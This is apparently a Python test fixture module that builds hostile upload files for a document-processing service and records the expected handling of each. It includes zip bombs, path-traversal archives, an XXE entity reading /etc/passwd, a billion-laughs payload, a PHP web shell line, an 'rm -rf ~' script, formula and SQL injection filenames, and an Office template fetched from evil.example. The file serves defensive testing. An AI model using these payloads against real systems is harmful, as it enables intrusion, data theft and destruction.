"""Files that want to harm whoever takes, opens, unpacks or shows them: name of the case, filename, bytes, what becomes of it.

What becomes of it is `refused` (400 unsupported_file_type), `empty` (400 empty_file), or the status it settles in.
"""

import gzip
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.fixtures import containers, pdfs, zips

MiB = 1 << 20
PE = b"MZ\x90\0" + bytes(60) + b"PE\0\0" + bytes(200)
ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">'
    + b"".join(b'<!ENTITY l%d "%s">' % (one, b"&l%d;" % (one - 1) * 10) for one in range(1, 12))
    + b"]><a>&l11;</a>"
)
SCRIPT = "<< /S /JavaScript /JS (app.alert) >>"
TEXT = b"Backups are tested every quarter.\n"


@dataclass(frozen=True)
class File:
    """One file to send, and what is to become of it."""

    case: str
    filename: str
    data: bytes
    fate: str


def files() -> Iterator[File]:
    """Each made when it is asked for."""
    for part in (_archives, _names, _disguised, _pdfs, _office, _images, _texts):
        yield from part()


def _archives() -> Iterator[File]:
    whole = zips.zipped({"a.pdf": pdfs.pdf()})
    yield File("64 MiB of zeros", "bomb.zip", zips.zipped({"zeros": bytes(64 * MiB)}), "failed")
    yield File("a size that is a lie", "lie.zip", zips.lying(zips.zipped({"zeros": bytes(64 * MiB)}), 100), "failed")
    yield File("one place under 5,000 names", "overlap.zip", zips.overlapping(5000, MiB), "failed")
    yield File("forty archives in one another", "nested.zip", zips.nested(40), "failed")
    yield File("42.zip in small", "42.zip", _copies(5, 4, 1000), "failed")
    yield File("20,000 members", "many.zip", zips.zipped({f"{one}": b"" for one in range(20_000)}), "failed")
    yield File("members that lead out", "out.zip", zips.zipped({"../../evil": b"x", "/etc/cron.d/x": b"x"}), "complete")
    yield File("members as on Windows", "win.zip", zips.zipped({"C:\\x.dll": b"x", "..\\NUL": b"x"}), "complete")
    yield File("a link to /etc/passwd", "link.zip", _link(), "complete")
    yield File("controls and turns in names", "turns.zip", zips.zipped({"a\n\x1b[31m\u202efdp.exe": PE}), "complete")
    yield File("a name of 60,000 characters", "long.zip", zips.zipped({"n" * 60_000: b"x"}), "complete")
    yield File("every member with a password", "locked.zip", zips.encrypted(whole), "locked")
    yield File("an archive cut off", "cut.zip", whole[:-9], "failed")
    yield File("a directory beyond the end", "beyond.zip", whole[:-6] + b"\xff\xff\xff\x7f\0\0", "failed")
    yield File("a program that is an archive too", "sfx.zip", PE + whole, "refused")
    yield File("nothing but an archive's mark", "mark.zip", b"PK\x03\x04", "failed")


def _copies(levels: int, copies: int, size: int) -> bytes:
    data = zips.zipped({f"{one}.dat": bytes(size) for one in range(copies)})
    for _ in range(levels - 1):
        data = zips.zipped({f"{one}.zip": data for one in range(copies)}, stored=True)
    return data


def _link() -> bytes:
    info = zipfile.ZipInfo("report.pdf")
    info.create_system = 3
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return zips.zipped([(info, b"/etc/passwd")])


def _names() -> Iterator[File]:
    for case, filename in (
        ("a path up", "../../../../etc/cron.d/evil.txt"),
        ("a path up, escaped", "..%2f..%5cevil.txt"),
        ("an absolute path", "/etc/passwd.txt"),
        ("a share", r"\\host\share\evil.txt"),
        ("a drive", "C:evil.txt"),
        ("a stream", "evil.txt:hidden.txt"),
        ("U+0000", "evil\0.exe.txt"),
        ("controls", "e\x1b[31mvil\x07.txt"),
        ("a turn to the right", "report\u202etxt.exe.txt"),
        ("a device", "CON.txt"),
        ("a device with a superscript", "COM\u00b9.txt"),
        ("dots and blanks", " . .txt. . "),
        ("5,000 characters", "n" * 5000 + ".txt"),
        ("5,000 characters of four bytes", "\U0001f4a3" * 5000 + ".txt"),
        ("marks without end", "z" + "\u0301" * 4000 + ".txt"),
        ("a tag", "<img src=x onerror=alert(1)>.txt"),
        ("a formula", "=cmd|'_C calc'!A0.txt"),
        ("a statement", "'; DROP TABLE document;--.txt"),
        ("a template", "{{7*7}}${7*7}%s%n.txt"),
    ):
        yield File(f"called with {case}", filename, TEXT, "complete")
    yield File("called by U+0000 before the end", "evil.txt\0.exe", TEXT, "refused")
    yield File("called with an end that turns", "evil.\u202etxt\u202c.exe", TEXT, "refused")
    yield File("called with an end of 5,000", "a." + "x" * 5000, TEXT, "refused")
    yield File("called with nothing before a dot", ".htaccess", TEXT, "refused")
    yield File("called with nothing but dots", "...", TEXT, "refused")


def _disguised() -> Iterator[File]:
    yield File("a program named pdf", "report.pdf", PE, "refused")
    yield File("a program named docx", "report.docx", ELF, "refused")
    yield File("a program before a PDF", "report.pdf", PE + pdfs.pdf(), "refused")
    yield File("a script named txt", "notes.txt", b"#!/bin/sh\nrm -rf ~\n", "refused")
    yield File("a script named csv", "list.csv", b"<?php system($_GET['c']); ?>", "refused")
    yield File("a batch named md", "read.md", b"@echo off\r\ndel *.*", "refused")
    yield File("a page named pdf", "report.pdf", HTML, "refused")
    yield File("a page behind a mark, named txt", "a.txt", b"\xef\xbb\xbf \n<!-- x -->" + HTML, "refused")
    yield File("a page in UTF-16, named txt", "a.txt", HTML.decode().encode("utf-16"), "refused")
    yield File("a drawing with a script, named png", "logo.png", SVG, "refused")
    yield File("a shortcut named doc", "a.doc", b"L\0\0\0\x01\x14\x02\0" + bytes(90), "refused")
    yield File("a shortcut of the web, named txt", "a.txt", b"[InternetShortcut]\r\nURL=file://evil/x", "refused")
    yield File("a class named xlsx", "a.xlsx", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(90), "refused")
    yield File("gzip named zip", "a.zip", gzip.compress(bytes(MiB)), "refused")
    yield File("a tape named txt", "a.txt", b"a\0" * 300, "refused")
    yield File("nothing at all", "empty.pdf", b"", "empty")
    yield File("a picture that is an archive too", "both.png", _png() + zips.zipped({"a.exe": PE}), "complete")
    yield File("a PDF that is an archive too", "both.pdf", pdfs.pdf() + zips.zipped({"a.exe": PE}), "complete")


def _pdfs() -> Iterator[File]:
    kept: dict[int, str | bytes] = {
        4: "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
        5: pdfs.stream(PE, "/Type /EmbeddedFile"),
    }
    names = "/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"
    zeros = pdfs.stream(bytes(64 * MiB), "/Type /ObjStm /N 1 /First 4")
    yield File("a PDF with a password", "a.pdf", pdfs.locked(), "locked")
    yield File("a PDF cut off", "a.pdf", pdfs.pdf()[:60], "failed")
    yield File("pages in a circle", "a.pdf", pdfs.pdf({2: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}), "failed")
    yield File("a PDF that refers in a circle", "a.pdf", pdfs.pdf({1: "2 0 R", 2: "1 0 R"}), "failed")
    yield File("arrays 200,000 deep", "a.pdf", b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000, "failed")
    yield File("a page for every atom", "a.pdf", pdfs.pdf({2: "<< /Kids [2 0 R 2 0 R] /Count 999999999 >>"}), "failed")
    yield File("a script when it opens", "a.pdf", pdfs.pdf(catalog=f"/OpenAction {SCRIPT}"), "complete")
    yield File("a program in a PDF", "a.pdf", pdfs.pdf(kept, catalog=names), "complete")
    yield File("a program to start", "a.pdf", pdfs.pdf(catalog="/OpenAction << /S /Launch /F (cmd) >>"), "complete")
    yield File("zeros packed in a PDF", "a.pdf", pdfs.pdf({4: zeros}), "complete")
    yield File("zeros behind a PDF's mark", "a.pdf", b"%PDF-1.7\n" + bytes(MiB), "failed")


def _office() -> Iterator[File]:
    outside = zips.relations("attachedTemplate", "http://evil.example/t.dotm")
    circle = bytearray(containers.word())
    (directory,) = struct.unpack_from("<I", circle, 48)
    struct.pack_into("<I", circle, 512 + 4 * directory, directory)
    macros = containers.word(more={"Macros/VBA/dir": b"x"})
    yield File(
        "a workbook with macros", "a.xlsm", zips.office("xlsm", {"xl/vbaProject.bin": b"x"}), "failed"
    )  # as the next three: there is no text part to read
    yield File("an old document with macros", "a.doc", macros, "failed")
    yield File("a docm named docx", "a.docx", zips.office("docm", {"word/vbaProject.bin": b"x"}), "failed")
    yield File("a template from outside", "a.docx", zips.office("docx", {"word/_rels/a.rels": outside}), "failed")
    yield File("an external entity", "a.docx", zips.office("docx", main=XXE), "failed")
    yield File("an external entity in UTF-16", "b.docx", zips.office("docx", main=_wide(XXE)), "failed")
    yield File("a billion laughs", "a.xlsx", zips.office("xlsx", main=LAUGHS), "failed")
    yield File("a bomb in a slide", "a.pptx", zips.office("pptx", {"ppt/media/a.png": bytes(64 * MiB)}), "failed")
    yield File("a part that leads out", "c.docx", zips.office("docx", {"../../evil.xml": b"<a/>"}), "failed")
    yield File("10,000 parts", "b.xlsx", zips.office("xlsx", {f"xl/{n}.bin": b"" for n in range(10_000)}), "failed")
    yield File("a workbook with a password", "c.xlsx", containers.container({"EncryptedPackage": b"x"}), "locked")
    yield File("sectors in a circle", "b.doc", bytes(circle), "complete failed")
    yield File("a container cut off", "c.doc", containers.word()[:600], "failed")
    yield File("a package cut off", "d.docx", zips.office("docx")[:-30], "failed")
    yield File("objects in rich text", "a.rtf", rb"{\rtf1 {\object\objautlink x}{\*\objdata 0105}}", "complete")
    yield File("rich text without end", "b.rtf", rb"{\rtf1 " + b"{" * 200_000, "failed")


def _wide(text: bytes) -> bytes:
    return text.decode().encode("utf-16")


def _images() -> Iterator[File]:
    yield File("a picture of 900 million dots", "a.png", _png(30_000, 30_000), "failed")
    yield File("a picture of nothing", "b.png", _png(0, 0), "failed")
    yield File("a picture cut off", "c.png", _png()[:20], "failed")
    yield File("a picture without end", "a.jpg", b"\xff\xd8" + b"\xff\xe0\0\0" * 999, "failed")
    yield File("a picture of 65,535 squared", "a.gif", b"GIF89a" + b"\xff" * 4 + bytes(3) + b"\x3b", "failed")


def _png(width: int = 10, height: int = 10) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", header), (b"IDAT", zlib.compress(bytes(310))), (b"IEND", b""))
    written = io.BytesIO(b"\x89PNG\r\n\x1a\n")
    written.seek(0, io.SEEK_END)
    for kind, data in chunks:
        written.write(struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)))
    return written.getvalue()


def _texts() -> Iterator[File]:
    yield File("formulas", "a.csv", b"=cmd|'/C calc'!A0,\"@SUM(1)\",+1,-1\r\n", "complete")
    yield File("a line of 8 MiB", "line.txt", b"x" * 8 * MiB, "complete")
    yield File("quotes without end", "b.csv", b'"' * MiB, "complete")
    yield File("broken UTF-8", "c.txt", b"\xff\xfe\xfd" + b"\x80" * 1001, "complete failed refused")
    yield File("an entity in XML", "x.txt", XXE, "complete")
